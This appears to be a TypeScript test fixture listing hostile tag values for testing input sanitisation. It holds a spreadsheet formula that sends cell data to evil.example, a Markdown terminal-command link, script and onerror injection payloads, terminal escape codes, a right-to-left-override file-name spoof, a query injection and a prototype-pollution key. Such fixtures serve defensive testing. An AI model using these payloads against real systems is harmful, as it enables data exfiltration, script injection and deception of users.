const longestTag = 256;

/** What people write into tags: a formula, Markdown, HTML, terminal codes, text that turns round, a query, and very much of it. */
export const hostileTags: Readonly<Record<string, string>> = {
  owner: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  note: '[reset password](command:workbench.action.terminal.new) ![x](https://evil.example/x.png)',
  'x](http:evil) | **bold**': '| a | b |\n|---|---|\n<script>alert(1)</script><img src=x onerror=alert(1)>',
  colour: '\u001B[31mred\u001B[0m\u0007',
  'name-turned': '\u202Egpj.exe\u202C',
  query: "' | where 1 == 1 | project id //",
  long: 'A'.repeat(longestTag),
  constructor: '__proto__',
};
